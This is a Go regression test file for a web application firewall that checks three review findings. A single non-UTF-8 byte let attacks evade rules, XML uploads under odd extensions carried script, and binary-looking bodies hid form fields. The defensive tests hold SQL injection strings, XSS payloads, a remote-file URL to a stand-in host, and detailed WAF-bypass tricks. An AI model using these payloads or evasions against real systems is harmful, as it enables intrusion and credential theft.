package detect

// Review 7: a hostile look at what decides not to run a rule or to skip a
// value (the value filter and its groups, the base64 bound, the @rx
// pre-filter and memory of misses, the memoized operators). Each test
// compares Parapet's answer with the released library's semantics (Coraza
// v3.8.1's @rx is Go's regexp) or with the filter off.

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"

	"github.com/parapet-waf/parapet/internal/config"
	"github.com/parapet-waf/parapet/internal/decision"
	"github.com/parapet-waf/parapet/internal/detect/corpus"
)

// releasedRx is the released Coraza's @rx (Go's regexp, "(?s)" and the
// pattern; Parapet's no-multiline choice kept, so that only the engine
// differs), capturing as Coraza does.
type releasedRx struct{ re *regexp.Regexp }

func (o *releasedRx) Evaluate(tx plugintypes.TransactionState, v string) bool {
	if !tx.Capturing() {
		return o.re.MatchString(v)
	}
	m := o.re.FindStringSubmatchIndex(v)
	if m == nil {
		return false
	}
	for i := 0; i < len(m)/2 && i < 9; i++ {
		if m[2*i] >= 0 {
			tx.CaptureField(i, v[m[2*i]:m[2*i+1]])
		} else {
			tx.CaptureField(i, "")
		}
	}
	return true
}

// releasedRxStage builds the stage from cfg with @rx on Go's regexp (as
// the released Coraza has it; patterns for non-UTF-8 bytes stay on
// Parapet's operator, which matches bytes as Coraza does), without the
// value filter, and puts Parapet's @rx back for the stages built after.
func releasedRxStage(t *testing.T, cfg *config.Config) *Stage {
	t.Helper()
	useRE2()
	memoizeOperators()
	plugins.RegisterOperator("rx", func(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
		if matchesArbitraryBytes("(?s)" + o.Arguments) {
			return newRE2rx(o)
		}
		re, err := regexp.Compile("(?s)" + o.Arguments)
		if err != nil {
			return newRE2rx(o) // RE2-only syntax
		}
		return &releasedRx{re}, nil
	})
	defer plugins.RegisterOperator("rx", newRE2rx)
	s, err := buildWith(cfg, false)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// invalidByteVariants are an attack value with a byte that is not UTF-8
// (0xFF) put where the target tolerates it: in the middle, for spaces,
// before the last byte, before '(' and '='. Django reads each such byte
// as U+FFFD (errors="replace"); Go's regexp reads it as U+FFFD too, so
// '.', '[^...]', '\W' and '[\s\S]' match it, but RE2 matches no byte that
// is not UTF-8 with any of them.
func invalidByteVariants(s string) []string {
	out := []string{s[:len(s)/2] + "\xff" + s[len(s)/2:], strings.ReplaceAll(s, " ", "\xff")}
	if len(s) > 1 {
		out = append(out, s[:len(s)-1]+"\xff"+s[len(s)-1:])
	}
	return append(out, strings.ReplaceAll(s, "(", "\xff("), strings.ReplaceAll(s, "=", "\xff="))
}

// Finding 1: @rx on RE2 does not match a byte that is not UTF-8 with '.',
// a negated class, '\W' or '[\s\S]'; the released Coraza (Go's regexp)
// does, reading it as U+FFFD, as Django does. One 0xFF byte where the
// target does not care (an attacker's own URL, a comment, a string
// literal) breaks every CRS pattern that spans it: "?q=http://evil.example/
// %FF/shell.txt?" passed (931120 did not match), and 19 of the attack
// corpus's requests so mutated passed at paranoia 1 while the released
// engine blocked them.
func TestReview7InvalidUTF8AsReleasedCoraza(t *testing.T) {
	released := releasedRxStage(t, config.Default())
	useRE2()
	parapet, err := buildWith(config.Default(), true)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{"http://evil.example/\xff/shell.txt?", "1 UNION SELECT '\xff',password FROM auth_user"} {
		target := "/search/?q=" + url.QueryEscape(v)
		a, b := observed(parapet, browserRequest("GET", target, nil)), observed(released, browserRequest("GET", target, nil))
		if b.action != decision.Block {
			t.Fatalf("%q: the released engine does not block it: %v", v, b)
		}
		if a.action != b.action || strings.Join(a.rules, " ") != strings.Join(b.rules, " ") {
			t.Errorf("%q:\n Parapet:  %s %v\n released: %s %v", v, a.action, a.rules, b.action, b.rules)
		}
	}
	c, err := corpus.Load(filepath.Join("..", "..", "testdata", "detect", "attacks.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	every := 1
	if testing.Short() || raceEnabled {
		every = 4
	}
	n, passed := 0, 0
	for i, cr := range c.Requests {
		if i%every != 0 {
			continue
		}
		for k := range 5 {
			cr2 := cr
			switch q := strings.IndexByte(cr.Path, '?'); {
			case cr.Form != nil:
				cr2.Form = nil
				for _, kv := range cr.Form {
					if vs := invalidByteVariants(kv[1]); k < len(vs) {
						kv[1] = vs[k]
					}
					cr2.Form = append(cr2.Form, kv)
				}
			case q >= 0:
				vals, _ := url.ParseQuery(cr.Path[q+1:])
				for _, vs := range vals {
					for j := range vs {
						if m := invalidByteVariants(vs[j]); k < len(m) {
							vs[j] = m[k]
						}
					}
				}
				cr2.Path = cr.Path[:q+1] + vals.Encode()
			default:
				continue
			}
			n++
			a, b := observed(parapet, corpusRequest(t, c.Dir, cr2)), observed(released, corpusRequest(t, c.Dir, cr2))
			if b.action == decision.Block && a.action != decision.Block {
				passed++
				t.Errorf("%s (variant %d): Parapet %s %v, released engine %s %v", cr.Name, k, a.action, a.rules, b.action, b.rules)
			}
		}
	}
	t.Logf("%d mutated attacks, %d blocked by the released engine passed Parapet", n, passed)
}

// TestReview7InvalidUTF8CapturesAsGo checks finding 1's fix at the
// operator: for values that are not UTF-8, Parapet's @rx answers and
// captures (the value's own bytes) as Go's regexp does.
func TestReview7InvalidUTF8CapturesAsGo(t *testing.T) {
	useRE2()
	values := []string{"a\xffc", "xa\xc0\xafcy", "\xed\xa0\x80a.c\xff", "\xe2\x82", "é\xffé", "a\xef\xbf\xbdc", "\xff", ""}
	for _, expr := range []string{`(a.c)`, `a[^b]{2}c`, `(\W+)`, `^(.*)$`, `([\s\S])c`, `(é.)`, `(?i)(A\W)`, "\uFFFD"} {
		op, err := newRE2rx(plugintypes.OperatorOptions{Arguments: expr})
		if err != nil {
			t.Fatal(err)
		}
		p := op.(*re2rx).rxPattern
		re := regexp.MustCompile("(?s)" + expr)
		for _, v := range values {
			want := re.FindStringSubmatchIndex(v)
			if got := p.match(v); got != (want != nil) {
				t.Errorf("%q on %q: matched %v, Go's regexp %v", expr, v, got, want != nil)
				continue
			}
			if want == nil || utf8.ValidString(v) {
				continue
			}
			m := p.re.FindStringSubmatchIndex(asRunes(v))
			for i := 0; i < len(want)/2; i++ {
				g, w := "", ""
				if m[2*i] >= 0 {
					g = v[valueOffset(v, m[2*i]):valueOffset(v, m[2*i+1])]
				}
				if want[2*i] >= 0 {
					w = v[want[2*i]:want[2*i+1]]
				}
				if g != w {
					t.Errorf("%q on %q: group %d %q, Go's regexp %q", expr, v, i, g, w)
				}
			}
		}
	}
}

// TestReview7SameAnswersAsReleasedRx runs the CRS regression tests, the
// attack and legitimate corpora and the held-out cases through Parapet's
// stage (RE2 with its pre-filter and memory of misses, the value filter)
// and through one whose @rx is the released Coraza's (Go's regexp, no
// filter), at paranoia 1 and at 4 in monitor mode (every rule evaluated),
// and requires the same decision and matched rules.
func TestReview7SameAnswersAsReleasedRx(t *testing.T) {
	reqs := sameAnswerRequests(t)
	pl4 := paranoia4Monitor()
	// Under the race detector (CI) paranoia 4 answers every third
	// request: the whole set there took four minutes of the package's
	// fifteen.
	pl4Every := 1
	if raceEnabled {
		pl4Every = 3
	}
	for _, c := range []struct {
		name  string
		cfg   *config.Config
		every int
	}{{"default", config.Default(), 1}, {"paranoia-4-monitor", pl4, pl4Every}} {
		t.Run(c.name, func(t *testing.T) {
			released := releasedRxStage(t, c.cfg)
			useRE2()
			parapet, err := buildWith(c.cfg, true)
			if err != nil {
				t.Fatal(err)
			}
			differ, checked := 0, 0
			for i, rq := range reqs {
				if i%c.every != 0 {
					continue
				}
				checked++
				a, b := observed(parapet, rq.make()), observed(released, rq.make())
				if a.String() != b.String() {
					differ++
					t.Errorf("%s:\n Parapet:  %s\n released: %s", rq.name, a, b)
				}
			}
			t.Logf("%d requests, %d answered differently", checked, differ)
		})
	}
}

// review7Upload is a multipart POST of one file.
func review7Upload(name, ctype, content string) *http.Request {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename="%s"`, name))
	h.Set("Content-Type", ctype)
	w, _ := mw.CreatePart(h)
	_, _ = w.Write([]byte(content))
	_ = mw.Close()
	r := browserRequest("POST", "/upload/", &b)
	r.Header.Set("Content-Type", mw.FormDataContentType())
	return r
}

// Finding 2: uploaded files are read for script (upload.go) when their
// name, declared type or first bytes say markup; the first bytes had to
// be one of a few tags (<?xml, <svg, <html, <script...). An XML document
// that starts with any other element, holding XHTML-namespaced script,
// under a name Python's mimetypes types as XML (.rdf, .wsdl and .xpdl are
// application/xml in its own table; Debian's mime.types adds .xhtm as
// application/xhtml+xml, .mml, .xul...) and declared as
// application/octet-stream, was not read: Django's static.serve and
// FileResponse serve it by that guess, and the browser runs the script
// (stored XSS). The same file named .xml was blocked.
func TestReview7MarkupUploadsUnderXMLNames(t *testing.T) {
	useRE2()
	s, err := buildWith(config.Default(), true)
	if err != nil {
		t.Fatal(err)
	}
	contents := []string{
		`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(document.domain)</x:script>`,
		`<feed xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="alert(document.domain)"/></feed>`,
		"\n  <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></rdf:RDF>",
	}
	for _, c := range contents {
		if o := observed(s, review7Upload("feed.xml", "application/octet-stream", c)); o.action != decision.Block {
			t.Fatalf("%.40q as feed.xml: %v, want blocked", c, o)
		}
		for _, name := range []string{"feed.rdf", "feed.wsdl", "feed.xpdl", "feed.xhtm", "feed.mml", "feed.xul", "upload.bin"} {
			if o := observed(s, review7Upload(name, "application/octet-stream", c)); o.action != decision.Block {
				t.Errorf("%.40q as %s: %s %v, want blocked as feed.xml is", c, name, o.action, o.rules)
			}
		}
	}
}

// TestReview7StartsAsMarkup: finding 2's fix reads a file as markup by
// how it starts, any element, in UTF-8 or UTF-16, and not text that only
// has a '<' in it.
func TestReview7StartsAsMarkup(t *testing.T) {
	utf16le := func(s string) string {
		b := []byte{0xFF, 0xFE}
		for i := 0; i < len(s); i++ {
			b = append(b, s[i], 0)
		}
		return string(b)
	}
	for v, want := range map[string]bool{
		"<x:script xmlns:x='http://www.w3.org/1999/xhtml'/>": true,
		"\xef\xbb\xbf\r\n <feed>":                            true,
		"<?xml version='1.0'?><a/>":                          true,
		"<!-- c --><a/>":                                     true,
		utf16le("<feed xmlns:h='x'/>"):                       true,
		"\x00<\x00a\x00>":                                    true,
		"name,email\n<3,x":                                   false,
		"<3 love":                                            false,
		"hello <b>x</b>":                                     false,
		"%PDF-1.4":                                           false,
		"":                                                   false,
	} {
		if got := startsAsMarkup([]byte(v)); got != want {
			t.Errorf("%q: %v, want %v", v, got, want)
		}
	}
}

// Finding 3: a body declared application/octet-stream whose first 512
// bytes hold a NUL or a byte that is not UTF-8 was taken for a file
// (binary.go) and not inspected at all, on the premise that no view can
// read it as JSON or a form. Django's own QueryDict(request.body), the
// usual way a view reads a PUT or PATCH form, decodes such a body as
// ISO-8859-1 and parses it (Django 3.2.25: "\xff=1&q=1'+UNION+SELECT..."
// gives q = "1' UNION SELECT password FROM auth_user--"). One stray byte
// anywhere in the body's head passed any payload to such a view; so did
// a PNG signature in front of the form, sent as image/png. Fixed: a
// file-like body is read as QueryDict reads it, and its fields whose
// name a view can ask for are inspected (readFileBody); only a body
// Django cannot read as a form (over DATA_UPLOAD_MAX_MEMORY_SIZE, or
// over DATA_UPLOAD_MAX_NUMBER_FIELDS fields) passes uninspected.
func TestReview7OctetStreamFormWithAStrayByte(t *testing.T) {
	useRE2()
	s, err := buildWith(config.Default(), true)
	if err != nil {
		t.Fatal(err)
	}
	const attack = "q=1%27+UNION+SELECT+password+FROM+auth_user--"
	for _, body := range []string{
		"\xff=1&" + attack,
		"%00=\x00&" + attack,
		attack + "&z=\x00",
		"\x89PNG\r\n\x1a\n=&" + attack, // and a type's signature: image/png
		"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR&" + attack + "\xff\xfe",
		// Past body_limit with no '&': one field, over the limit (413).
		"\xff\x00&" + attack + strings.Repeat("\xfe", 200<<10),
		// Latin-1 text in the payload, as Django decodes it.
		"\xff=1&q=1'+UNION+SELECT+password+FROM+auth_user--\xe9\x00",
	} {
		for _, ct := range []string{"text/plain", "application/octet-stream", "image/png"} {
			r := browserRequest("PUT", "/api/items/1/", strings.NewReader(body))
			r.Header.Set("Content-Type", ct)
			if o := observed(s, r); o.action != decision.Block {
				t.Errorf("%.60q as %s: %s %v, want blocked", body, ct, o.action, o.rules)
			}
		}
	}
	// A NUL in the query string still counts (920270) beside a file.
	r := browserRequest("PUT", "/api/items/1/?q=a%00b", strings.NewReader("\x89PNG\r\n\x1a\n\x00\x00&q=\x00"))
	r.Header.Set("Content-Type", "image/png")
	if o := observed(s, r); o.action != decision.Block || !slices.Contains(o.rules, "920270") {
		t.Errorf("NUL in the query beside a PNG: %s %v, want blocked by 920270", o.action, o.rules)
	}
	// Bodies Django cannot read as a form reach the app uninspected and
	// whole: more than DATA_UPLOAD_MAX_NUMBER_FIELDS fields (1 + the
	// number of '&'), or more than DATA_UPLOAD_MAX_MEMORY_SIZE bytes.
	for _, body := range []string{
		"\xff=1&" + attack + strings.Repeat("&", 999),
		"\xff=1&" + attack + "&" + strings.Repeat("\xfe", 2621440),
	} {
		for _, ct := range []string{"application/octet-stream", "image/png"} {
			if ct == "image/png" {
				body = "\x89PNG\r\n\x1a\n" + body
			}
			r := browserRequest("PUT", "/api/items/1/", strings.NewReader(body))
			r.Header.Set("Content-Type", ct)
			info := &decision.Info{ID: nextRequestID()}
			if d := s.Check(r.Context(), r, info); d.Decided() || !slices.Contains(info.Tags, "body-binary") {
				t.Errorf("%d bytes as %s: %+v %v, want forwarded as a file", len(body), ct, d, info.Tags)
				continue
			}
			if got, _ := io.ReadAll(r.Body); string(got) != body {
				t.Errorf("%d bytes as %s: the app would get %d bytes", len(body), ct, len(got))
			}
		}
	}
	// 999 '&' (1,000 fields) Django still reads: inspected.
	r = browserRequest("PUT", "/api/items/1/", strings.NewReader("\xff=1&"+attack+strings.Repeat("&", 998)))
	r.Header.Set("Content-Type", "application/octet-stream")
	if o := observed(s, r); o.action != decision.Block {
		t.Errorf("1,000 fields: %s %v, want blocked", o.action, o.rules)
	}
}
